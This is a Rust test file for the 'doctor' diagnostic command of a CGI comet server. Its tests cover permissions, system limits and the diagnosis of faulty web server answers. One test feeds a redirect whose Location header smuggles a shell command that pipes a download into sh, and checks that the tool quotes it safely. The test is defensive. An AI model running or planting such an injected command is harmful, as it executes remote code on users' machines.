//! The doctor on a machine, and before servers that are none.

use std::fs::{self, Permissions};
use std::io::{Read, Write};
use std::net::{Ipv4Addr, TcpListener};
use std::os::unix::fs::PermissionsExt;
use std::process::Output;
use std::thread;
use std::time::{Duration, Instant};

use crate::support::binary::{Call, Store};
use crate::support::host::{free_port, is_root, not_run};
use crate::support::tokens::Keys;

fn doctor(store: &Store) -> Call {
    let url = format!("file://{}", store.0.display());
    Call::new().argument("doctor").variable("NOVCOMET_STORE", &url)
}

/// The findings, and whether there is a fault.
fn findings(output: &Output) -> (String, bool) {
    assert!(output.stderr.is_empty(), "{output:?}");
    let text = String::from_utf8(output.stdout.clone()).unwrap();
    let code = output.status.code().unwrap();
    assert_eq!(code, i32::from(text.lines().any(|line| line.starts_with("fault "))), "{text}");
    (text, code != 0)
}

/// Asserts one fault with its fix.
fn assert_fault(call: Call, what: &str, fix: &str) {
    let text = findings(&call.output()).0;
    let faults: Vec<_> = text.lines().filter(|line| line.starts_with("fault ")).collect();
    assert_eq!(faults.len(), 1, "{text}");
    let (found, remedy) = faults[0].split_once("; fix: ").unwrap();
    assert!(found.contains(what) && remedy.contains(fix), "{}", faults[0]);
}

fn assert_note(call: Call, note: &str) {
    let (text, is_faulty) = findings(&call.output());
    let has_note = text.lines().any(|line| line.starts_with("note  ") && line.contains(note));
    assert!(has_note && !is_faulty, "{text}");
}

// The machine.

#[test]
fn sound_machine_has_no_fault_and_nothing_is_left() {
    let store = Store::new();
    let (text, is_faulty) = findings(&doctor(&store).output());
    assert!(!is_faulty, "{text}");
    for line in [
        "ok    the settings ",
        "ok    events wake subscribers",
        "kernel.pid_max is",
        "net.core.somaxconn is",
        "(ulimit -Hn)",
        " of memory are available",
        "every user of this machine can create, read and delete topics",
        "ok    the store can be written, and ",
        "note  the server was not asked",
    ] {
        assert!(text.contains(line), "{line:?} is not in {text}");
    }
    assert_eq!(store.names(), [""; 0]);
}

#[test]
fn missing_directory_is_made_by_the_fix() {
    let store = Store::new();
    let path = store.0.join("missing");
    let call = || doctor(&store).variable("NOVCOMET_STORE", &format!("file://{}", path.display()));
    let fix = format!("install -d -m 2770 -g www-data {}", path.display());
    assert_fault(call(), "No such file or directory", &fix);
    fs::write(&path, "").unwrap();
    assert_fault(call(), "is no directory", &fix);
    fs::remove_file(&path).unwrap();
    fs::create_dir(&path).unwrap();
    assert!(!findings(&call().output()).1);
}

#[test]
fn directory_that_all_can_empty_is_found() {
    let store = Store::new();
    fs::set_permissions(&store.0, Permissions::from_mode(0o777)).unwrap();
    assert_fault(doctor(&store), "every user can delete topics", "chmod +t /");
}

#[test]
fn full_file_system_is_found() {
    let store = Store::new();
    fs::write(store.0.join("other"), "x").unwrap();
    let call = doctor(&store).variable("NOVCOMET_KEEP_FREE", "100");
    assert_fault(call, "less than 100 %", "lower NOVCOMET_KEEP_FREE");
}

#[test]
fn user_who_may_only_read_is_told() {
    if !is_root() {
        return not_run("a directory of root", "root");
    }
    let store = Store::new();
    fs::set_permissions(&store.0, Permissions::from_mode(0o755)).unwrap();
    assert_note(doctor(&store).user(65_534), "this user may not write to the store");
}

#[test]
fn each_invalid_setting_is_found() {
    let store = Store::new();
    let call = doctor(&store).variable("NOVCOMET_TRIES", "0");
    let text = findings(&call.variable("NOVCOMET_PUBLISH", "all").output()).0;
    for (name, value) in [("TRIES", "0"), ("PUBLISH", "all")] {
        assert!(text.contains(&format!("fault NOVCOMET_{name}=\"{value}\" is not ")), "{text}");
    }
    assert_eq!(text.lines().filter(|line| line.starts_with("fault ")).count(), 2, "{text}");
    let call = doctor(&store).variable("NOVCOMET_STORE", "reddis://h");
    assert_fault(call, "NOVCOMET_STORE", "correct it");
}

#[test]
fn key_that_others_can_read_is_found() {
    let (store, keys) = (Store::new(), Keys::new());
    let call = || doctor(&store).variable("NOVCOMET_TOKEN_KEY", &keys.path("hs"));
    let text = findings(&call().output()).0;
    assert!(text.contains("ok    the key of tokens is valid"), "{text}");
    keys.allow("hs", 0o644);
    assert_fault(call(), "is open to other users", "chmod o=");
}

#[test]
fn missing_inotify_instances_are_found() {
    let store = Store::new();
    let script = r#"echo 0 > /proc/sys/user/max_inotify_instances && exec "$0" "$@""#;
    let by = ["-Ur", "sh", "-c", script];
    if !Call::of("unshare".as_ref()).argument("-Ur").argument("true").output().status.success() {
        return not_run("a limit of inotify instances", "user namespaces");
    }
    let call = doctor(&store).by("unshare", &by);
    assert_fault(call, "too few inotify instances", "sysctl -w fs.inotify.max_user_instances=");
}

#[test]
fn too_few_descriptors_and_places_are_told() {
    let store = Store::new();
    assert_note(doctor(&store).by("prlimit", &["--nofile=64"]), "at most 64 descriptors");
    let call = doctor(&store).variable("NOVCOMET_MAX_WAITERS", "100000");
    assert_note(call, "net.core.somaxconn=100000");
}

// The URL.

/// Answers every request with these bytes. Returns the URL.
fn server(answer: &[u8]) -> String {
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
    let url = format!("http://{}/comet.cgi", listener.local_addr().unwrap());
    let answer = answer.to_vec();
    thread::spawn(move || {
        while let Ok((mut stream, _)) = listener.accept() {
            let _ = stream.read(&mut [0; 4096]);
            let _ = stream.write_all(&answer);
        }
    });
    url
}

fn with_head(head: &str, body: &str) -> String {
    server(format!("HTTP/1.1 {head}\r\nConnection: close\r\n\r\n{body}").as_bytes())
}

fn at(store: &Store, url: &str) -> Call {
    doctor(store).argument(url)
}

#[test]
fn url_that_nobody_answers_is_found() {
    let store = Store::new();
    let url = format!("http://127.0.0.1:{}/comet.cgi", free_port());
    assert_fault(at(&store, &url), "no web server answers at 127.0.0.1", "systemctl start apache2");
    assert_fault(
        at(&store, "localhost/comet.cgi"),
        "is no URL",
        "such as http://localhost/comet.cgi",
    );
    assert_fault(
        at(&store, "ftp://localhost/x"),
        "is no URL",
        "such as http://localhost/comet.cgi",
    );
    let unknown = "http://host.invalid/comet.cgi";
    assert_fault(at(&store, unknown), "", "correct the host");
}

const APACHE: &str = "Server: Apache/2.4";
const HTML: &str = "<!doctype html>";

#[test]
fn answers_of_a_server_lead_to_its_repair() {
    let store = Store::new();
    for (head, body, what, fix) in [
        (format!("200 OK\r\n{APACHE}"), "\x7fELF", "sends the program as a file", "a2enmod cgid"),
        ("200 OK".into(), "\x7fELF", "as a file", "lighty-enable-mod novcomet"),
        (format!("503 x\r\n{APACHE}"), HTML, "itself answers 503", "systemctl restart apache2"),
        (format!("500 x\r\n{APACHE}"), HTML, "itself answers 500", "chmod 755 /usr/lib/"),
        (format!("403 x\r\n{APACHE}"), HTML, "itself answers 403", "a2enmod cgid"),
        ("404 x\r\nServer: lighttpd".into(), HTML, "itself answers 404", "lighty-enable-mod"),
        ("302 x\r\nLocation: https://h/".into(), "", "answers 302", "comet.cgi doctor https://h/"),
        (
            "302 x\r\nLocation: http://x/;curl${IFS}y|sh".into(),
            "",
            "answers 302",
            "comet.cgi doctor 'http://x/;curl${IFS}y|sh'",
        ),
        ("302 x\r\nLocation: x;y".into(), "", "answers 302", "give the URL to which"),
        ("200 OK".into(), HTML, "another program or page", "a2enconf novcomet"),
        ("200 OK".into(), "{\"version\":1}", "another program or page", "a2enconf novcomet"),
    ] {
        assert_fault(at(&store, &with_head(&head, body)), what, fix);
    }
    assert_fault(
        at(&store, &server(b"SSH-2.0-x\r\n\r\n")),
        "it does not speak HTTP/1.1",
        "correct http or https",
    );
}

#[test]
fn escape_sequences_of_a_server_are_shown_and_not_obeyed() {
    let store = Store::new();
    let url = with_head("302 x\r\nLocation: \x1b[31mx", "");
    let output = at(&store, &url).output();
    assert!(!output.stdout.contains(&0x1b), "{output:?}");
}

#[test]
fn clock_and_old_proxy_are_told() {
    let store = Store::new();
    let about = r#"{"version":"0.1.0","protocols":[]}"#;
    let url = server(
        format!("HTTP/1.0 200 OK\r\nDate: Sun, 06 Nov 1994 08:49:37 GMT\r\n\r\n{about}").as_bytes(),
    );
    let text = findings(&at(&store, &url).output()).0;
    assert!(text.contains("fault the clock of the server and ours differ by"), "{text}");
    assert!(text.contains("note  the answer is HTTP/1.0"), "{text}");
}

/// One server says nothing, one sends a byte now and then, one sends without an end.
#[test]
fn hanging_server_does_not_hang_the_doctor() {
    let store = Store::new();
    for pace in [None, Some(1), Some(100_000)] {
        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
        let url = format!("http://{}/", listener.local_addr().unwrap());
        thread::spawn(move || {
            while let Ok((mut stream, _)) = listener.accept() {
                let bytes = vec![b'x'; pace.unwrap_or_default()];
                thread::spawn(move || {
                    while pace.is_none() || stream.write_all(&bytes).is_ok() {
                        thread::sleep(Duration::from_millis(100));
                    }
                });
            }
        });
        let begin = Instant::now();
        assert!(findings(&at(&store, &url).output()).1);
        assert!(begin.elapsed() < Duration::from_secs(20), "{pace:?}");
    }
}

// Its page.

#[test]
fn page_is_for_whom_the_setting_says() {
    let (store, keys) = (Store::new(), Keys::new());
    let granted = keys.token(r#"{"subscribe":["novcomet/doctor"]}"#);
    let other = keys.token(r#"{"subscribe":["news"]}"#);
    let page = |address: &str, rule: &str, token: &str| {
        let call = store.query("doctor=1").method("GET").variable("NOVCOMET_DOCTOR", rule);
        let call = call.variable("GATEWAY_INTERFACE", "CGI/1.1").variable("HTTP_HOST", "localhost");
        let call = call.variable("REMOTE_ADDR", address);
        let call = call.variable("NOVCOMET_TOKEN_KEY", &keys.path("hs"));
        let token = if token.is_empty() { String::new() } else { format!("Bearer {token}") };
        call.variable("HTTP_AUTHORIZATION", &token).answer()
    };
    let (here, there) = ("127.0.0.1", "192.0.2.1");
    for (address, rule, token, status) in [
        (here, "", "", 200),
        (here, "loopback", "", 200),
        (there, "loopback", granted.as_str(), 403),
        (there, "token", granted.as_str(), 200),
        (there, "token", other.as_str(), 403),
        (there, "token", "", 401),
        (here, "token", "", 401),
        (here, "off", granted.as_str(), 403),
    ] {
        let answer = page(address, rule, token);
        assert_eq!(answer.status(), status, "{address} {rule} {token}");
        let is_told = answer.body.contains(store.0.to_str().unwrap());
        assert_eq!(is_told, status == 200, "{}", answer.body);
    }
    assert_eq!(page(there, "all", "").status(), 503);
    assert_eq!(page(here, "all", "").status(), 200, "it says what is wrong");
}
